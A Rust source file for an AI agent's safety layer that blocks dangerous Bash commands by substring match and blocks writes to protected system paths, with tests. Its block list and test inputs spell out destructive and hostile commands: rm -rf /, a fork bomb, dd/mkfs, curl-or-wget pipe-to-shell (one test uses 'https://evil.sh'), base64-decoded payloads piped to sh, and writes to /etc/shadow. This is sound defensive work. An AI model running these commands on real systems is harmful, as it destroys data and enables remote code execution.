//! Pre-execution blocking of dangerous operations.
//!
//! A closed substring list for shell commands plus a protected-prefix list
//! for file writes. Path checks run on the *resolved* path — checking the
//! raw argument is bypassable with a symlink.

use serde_json::Value;

use va_agent::permission::resolve_path;

/// Shell command fragments that are never allowed through the Bash tool.
const DANGEROUS_BASH_PATTERNS: &[&str] = &[
    // Destructive file operations
    "rm -rf /",
    "rm -rf ~",
    "rm -rf /*",
    "sudo rm -rf",
    // Disk operations
    "dd if=",
    "mkfs.",
    "> /dev/sda",
    // System compromise
    ":(){:|:&};:", // fork bomb
    "chmod -R 777 /",
    // Remote code execution via pipe-to-shell
    "wget -O- | sh",
    "curl | sh",
    "curl | bash",
    "wget | sh",
    "wget | bash",
    // Obfuscated payload execution
    "base64 -d | sh",
    "base64 -d | bash",
    "base64 --decode | sh",
    // Shell eval
    "eval $(",
    "eval \"$(",
    // Python eval
    "python -c \"import os;",
    "python3 -c \"import os;",
    // Suppress output and background
    ">/dev/null 2>&1 &",
];

/// System path prefixes that must never be written to. Trailing slash so
/// `/etcetera` does not match `/etc/`.
const PROTECTED_PATHS: &[&str] = &[
    "/etc/", "/usr/", "/bin/", "/sbin/", "/boot/", "/dev/", "/proc/", "/sys/", "/var/log/",
    "/root/",
];

/// Tools whose `file_path` argument is a write target.
const WRITE_TOOLS: &[&str] = &["Write", "Edit"];

/// The audit pipeline's dangerous-operation policy.
#[derive(Debug, Clone, Default)]
pub struct DangerPolicy;

impl DangerPolicy {
    pub fn new() -> Self {
        Self
    }

    /// Returns the block reason when the operation must be refused,
    /// `None` when it is safe to proceed.
    pub fn check(&self, tool_name: &str, tool_input: &Value) -> Option<String> {
        if tool_name == "Bash" {
            let command = tool_input
                .get("command")
                .and_then(Value::as_str)
                .unwrap_or_default();
            for pattern in DANGEROUS_BASH_PATTERNS {
                if command.contains(pattern) {
                    return Some(format!("Dangerous command pattern detected: {pattern}"));
                }
            }
        }

        if WRITE_TOOLS.contains(&tool_name) {
            let file_path = tool_input
                .get("file_path")
                .and_then(Value::as_str)
                .unwrap_or_default();
            let resolved = resolve_path(file_path);
            let resolved = resolved.to_string_lossy();
            for protected in PROTECTED_PATHS {
                if resolved.starts_with(protected) {
                    return Some(format!("Cannot modify protected path: {protected}"));
                }
            }
        }

        None
    }
}

// ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
// Tests
// ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn bash(command: &str) -> Value {
        json!({"command": command})
    }

    // ── Bash patterns ───────────────────────────────────────────────

    #[test]
    fn destructive_rm_blocked() {
        let policy = DangerPolicy::new();
        let reason = policy.check("Bash", &bash("rm -rf /")).unwrap();
        assert!(reason.contains("rm -rf /"));
    }

    #[test]
    fn pattern_embedded_in_longer_command_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Bash", &bash("cd /tmp && sudo rm -rf ./build"))
            .is_some());
    }

    #[test]
    fn fork_bomb_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy.check("Bash", &bash(":(){:|:&};:")).is_some());
    }

    #[test]
    fn pipe_to_shell_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Bash", &bash("curl | bash https://evil.sh"))
            .is_some());
        assert!(policy.check("Bash", &bash("wget -O- | sh")).is_some());
    }

    #[test]
    fn base64_decode_to_shell_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Bash", &bash("echo cGF5bG9hZA== | base64 -d | sh"))
            .is_some());
    }

    #[test]
    fn shell_eval_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy.check("Bash", &bash("eval $(cat /tmp/x)")).is_some());
    }

    #[test]
    fn benign_commands_allowed() {
        let policy = DangerPolicy::new();
        assert!(policy.check("Bash", &bash("ls -la")).is_none());
        assert!(policy.check("Bash", &bash("cargo build")).is_none());
        assert!(policy.check("Bash", &bash("rm build/output.txt")).is_none());
        // Output redirection alone is fine; only the suppress-and-background
        // combination is suspicious.
        assert!(policy.check("Bash", &bash("ls > /tmp/out.txt")).is_none());
    }

    #[test]
    fn patterns_only_apply_to_bash() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Read", &json!({"file_path": "rm -rf /"}))
            .is_none());
    }

    // ── protected paths ─────────────────────────────────────────────

    #[test]
    fn write_to_protected_path_blocked() {
        let policy = DangerPolicy::new();
        let reason = policy
            .check("Write", &json!({"file_path": "/etc/passwd"}))
            .unwrap();
        assert!(reason.starts_with("Cannot modify protected path"));
        assert!(reason.contains("/etc/"));
    }

    #[test]
    fn edit_under_var_log_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Edit", &json!({"file_path": "/var/log/syslog"}))
            .is_some());
    }

    #[test]
    fn traversal_into_protected_path_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Write", &json!({"file_path": "/tmp/../etc/shadow"}))
            .is_some());
    }

    #[cfg(unix)]
    #[test]
    fn symlink_into_protected_path_blocked() {
        let dir = tempfile::tempdir().unwrap();
        let link = dir.path().join("link");
        std::os::unix::fs::symlink("/etc", &link).unwrap();

        let policy = DangerPolicy::new();
        let target = link.join("passwd");
        let reason = policy
            .check("Write", &json!({"file_path": target.to_string_lossy()}))
            .unwrap();
        assert!(reason.starts_with("Cannot modify protected path"));
    }

    #[test]
    fn sibling_of_protected_prefix_allowed() {
        let policy = DangerPolicy::new();
        // /etcetera must not match the /etc/ prefix.
        assert!(policy
            .check("Write", &json!({"file_path": "/etcetera/notes.txt"}))
            .is_none());
    }

    #[test]
    fn var_outside_log_allowed() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Write", &json!({"file_path": "/var/tmp/scratch.txt"}))
            .is_none());
    }

    #[test]
    fn read_of_protected_path_not_blocked() {
        let policy = DangerPolicy::new();
        assert!(policy
            .check("Read", &json!({"file_path": "/etc/hostname"}))
            .is_none());
    }
}
